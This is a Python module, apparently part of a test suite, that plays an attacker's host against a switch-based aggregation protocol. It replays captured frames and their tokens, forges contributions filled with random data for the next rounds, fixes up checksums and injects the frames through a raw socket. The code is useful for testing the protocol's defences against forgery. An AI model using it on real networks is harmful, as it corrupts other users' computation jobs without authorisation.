"""An attacker's host: sends forged contributions and results of a job that it is not part of.

`forged` makes them from the frames of another host's link, tokens included. As a program it runs on the
attacker's host and sends the frames of standard input, one a line in hexadecimal digits.
"""

from __future__ import annotations

import socket
import struct
import sys
from collections.abc import Iterator
from dataclasses import replace

import numpy as np

from switchagg.wire import header as wire

_ETHERNET = 14
_IPV4 = 20
_UDP = 8


def forged(frame: bytes, slots: int, random: np.random.Generator) -> Iterator[bytes]:
    """Yields a frame's packet and those of the next rounds, with random words.

    Yields nothing for a frame that carries no words.
    """
    start = _ETHERNET + _IPV4 + _UDP
    if len(frame) < start or frame[12:14] != b"\x08\x00" or frame[23] != socket.IPPROTO_UDP:
        return
    length = struct.unpack(">H", frame[38:40])[0] - _UDP
    try:
        header, words = wire.decode(frame[start : start + length])
    except wire.WireError:
        return
    if words is None:
        return
    base = header.slot - header.slot % slots
    for ahead in range(4):
        seq = (header.seq + ahead) & 0xFFFFFFFF
        other = replace(header, seq=seq, slot=base + (header.slot - base + ahead) % slots)
        drawn = random.integers(0, 1 << 32, len(words), dtype=np.uint32)
        yield _whole(frame[:start], wire.encode(other, drawn))


def _whole(headers: bytes, datagram: bytes) -> bytes:
    """Returns a frame with these headers, with correct lengths and checksums."""
    ip = bytearray(headers[_ETHERNET : _ETHERNET + _IPV4])
    ip[2:4] = struct.pack(">H", _IPV4 + _UDP + len(datagram))
    ip[10:12] = b"\0\0"
    total = sum(struct.unpack(">10H", ip))
    total = (total & 0xFFFF) + (total >> 16)
    ip[10:12] = struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF)
    udp = headers[-_UDP:-4] + struct.pack(">HH", _UDP + len(datagram), 0)
    return headers[:_ETHERNET] + bytes(ip) + udp + datagram


if __name__ == "__main__":
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((sys.argv[1], 0))
        print("ready", flush=True)
        for line in sys.stdin:
            out.send(bytes.fromhex(line))
